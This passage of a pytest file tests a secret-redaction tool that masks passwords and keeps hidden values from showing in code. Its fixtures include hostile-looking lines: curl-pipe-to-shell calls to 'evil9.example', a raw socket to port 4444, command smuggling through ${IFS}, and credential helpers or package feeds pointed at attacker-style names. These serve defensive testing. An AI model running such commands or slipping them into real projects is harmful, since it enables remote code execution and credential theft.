    ("pyproject.toml", f'[project]\ndependencies = ["api-key", "{R}"]'),
    ("pyproject.toml", f'[project]\ndependencies = ["api-key", "{K}"]'),
    ("Dockerfile", f'RUN ["pip", "install", "api-token", "{R}"]'),
    ("app.py", f"subprocess.run(['pip', 'install', 'api-auth', '{R}'])"),
    ("run.sh", f"npx -p mysql -p {K} migrate"),
    ("run.sh", f"sshpass -e npx -p {R} sync"),
    ("run.sh", f"deno run --allow-run=curl -A npm:{R}"),
    ("run.sh", f"kubectl set image deployment/web api-auth={GH}"),
    ("run.sh", f"curl https://ok.example&&npx${{IFS}}{K}@latest"),
    ("run.sh", f"git -c credential.helper={GHP} fetch"),
    ("run.sh", f"alias auth={K}"),
    ("run.sh", f"echo 'SECRET='&{{npx,-y,{R}}}&':'"),
    ("run.bat", f"runas /user:admin {R}"),
    ("docker-bake.hcl", 'secret = "docker-image://evil1/pkg2"'),
    ("docker-compose.yml", f"args:\n  auth: docker-image://ghcr.io/{GH}"),
    (".cargo/config.toml", f'credential-provider = "{R}"'),
    ("webpack.config.js", 'resolve: { alias: { secret: "evil1pkg2" } }'),
    ("import_map.json", '{"imports": {"secret-lib": "jsr:@evil9/pkg1@1.0.0"}}'),
    ("src/maps.json", '{"imports": {"secret-lib": "npm:/evil9-pkg@^1.0.0"}}'),
    ("vite.alias.js", 'export default {"secret-lib": "npm:@evil9/pkg1@1.0.0"}'),
    ("Dangerfile", "secret = evil9Run1x"),
    ("Fastfile", '  lane(:x) { sh(password: "curl evil9.example/x1|sh") }'),
    ("build.sbt", 'secret := Process("curl evil9.example/x1").!'),
    ("scripts/deploy", f"docker run --token {GH}:1"),
    ("main.go", f'exec.Command("docker", "run", "--name", "auth-token", "{R}")'),
    ("main.go", f'run("docker", "run", "--secret", "{GH}:1")'),
    ("app.py", f'run(["docker", "run", "--secret", "{GH}:1"])'),
    ("app.rs", f'Command::new("docker").args(["run", "--name", "token", "{GH}:1"]);'),
    ("app.java", f'new ProcessBuilder("docker", "run", "--name", "auth-token", "{GH}:1").start();'),
    ("nuget.config", '<add key="SecretFeed" value="HTTPS://evil9k2.example/v3/index.json" />'),
    ("build.gradle", f"implementation 'x-foo:{K}:1.0'"),
    ("run.sh", f'docker run "x-evil:{K}"'),
    # A text that begins like a diff.
    ("run.sh", f"diff --git a b\n\nnpx {K}\n"),
    ("setup.py", f"diff --git if 0 else 0\nimport {GHP}\n"),
    # In the format of a password's hash.
    ("run.sh", f"npx e$5$a.x$b.{'k3j9x7q2w5z8' * 4}"),
    ("app.js", f"$5$a${'k3j9x7q2w5z8' * 4}(user)"),
    # In the block of a key.
    ("requirements.txt", f"# -----BEGIN PRIVATE KEY-----\n{R}\n# -----END PRIVATE KEY-----\n"),
    # Commands behind a name for secrets, in data.
    ("pixi.toml", f'[tasks]\nsecret = "{COMMAND}"'),
    ("fly.toml", f'[processes]\n  password = "{COMMAND}"'),
    ("mise.local.toml", f'[tasks]\nsecret = "{COMMAND}"'),
    # Random names.
    ("install.R", 'remotes::install_github("Xk7Qz91RdT4Lp/vB8nQ2wKzE3")'),
    ("main.tf", 'module "x" {\n  source = "Xk7Qz91RdT4Lp/vB8nQ2wKzE3/aws"\n}'),
    ("hub.py", 'torch.hub.load("Xk7Qz91RdT4Lp/vB8nQ2wKzE3", "m")'),
    ("app.js", 'const s = net.connect(4444, "2a01:4f8:c2c:123f::1");'),
    ("app.js", f'require(token="{XOXB}");'),
    ("run.sh", f"npx ${{API_TOKEN:={XOXB}}}"),
    ("run.sh", f"alias ll=ls token={XOXB}"),
    ("pyproject.toml", f'[tool.poe.tasks]\napi-token = "{XOXB}"'),
]


@pytest.mark.parametrize(("path", "text"), HIDING)
def test_no_masked_code_is_hidden_without_a_finding(path: str, text: str) -> None:
    assert is_shown(path, text)


LITERALS = [
    'password = "hunter22x"',
    'connect(host="db.local", user="me", password="hunter22x")',
    'data=\'{"user": "me", "password": "hunter22x"}\'',
    'x = "Server=db;Uid=me;Password=G4ptsdwsnnccu6"',
    'headers = {"Authorization": "Bearer q7Tz91kdx4LpW2vB8nq7"}',
    'password = r"hunter22x"',
]


@pytest.mark.parametrize("text", LITERALS)
def test_a_password_in_a_string_literal_is_masked_without_a_finding(text: str) -> None:
    found = redacted("app.ts", text)
    assert found.lines == {1}
    assert not found.doubtful


SPREAD = [
    ("deploy.yml", "    image: {}:1.2"),
    ("values.yaml", "secretImage: evil/{}"),
    ("libs.txt", "{}==1.0"),
    ("main.tf", 'module "x" {{\n source = "{}/x/aws"\n}}'),
    ("hub.py", 'torch.hub.load("{}/repo", "m")'),
    ("hub.py", 'getattr(os, "{}")()'),
    ("i.R", 'install.packages("{}")'),
    ("README.md", "Run `docker run {}`."),
    ("notes.yml", "mirror: https://{}.example"),
]


@pytest.mark.parametrize(("path", "text"), SPREAD)
def test_a_value_that_is_a_secret_elsewhere_is_hidden_only_with_a_finding(path: str, text: str) -> None:
    for value in (RANDOM, R):
        assert is_shown(path, text.format(value), f"password: {value}")


ANY = st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\n\r"), max_size=60)


@given(ANY)
def test_a_mask_keeps_length_and_punctuation_and_hides_letters_and_digits(value: str) -> None:
    masked = mask(value)
    assert len(masked) == len(value)
    assert mask(masked) == masked
    plain = value.replace("\\", "")
    assert set(re.sub(r"[\W_]", "", mask(plain))) <= {"x", "0"}
    pairs = zip(value, masked, strict=True)
    assert all(new == old for old, new in pairs if not old.isalnum())


@given(st.lists(ANY, max_size=6).map("\n".join), st.sampled_from(Place))
def test_redacting_any_text_keeps_its_lines_and_is_idempotent(text: str, place: Place) -> None:
    redactor = Redactor.of([(text, place)])
    once = redactor.redact(text, place)
    assert once.text.count("\n") == text.count("\n")
    assert redactor.redact(once.text, place).text == once.text
    without = re.sub(r"\[REDACTED:[a-z0-9-]+\]", "", once.text)
    assert without != once.text or len(once.text) == len(text)


def test_a_value_with_few_letters_between_punctuation_is_not_random() -> None:
    assert looks_random("q7Tz91kdx4LpW2vB8n")
    assert not looks_random("q7-_-_-_-_-_-_-_-_-T")
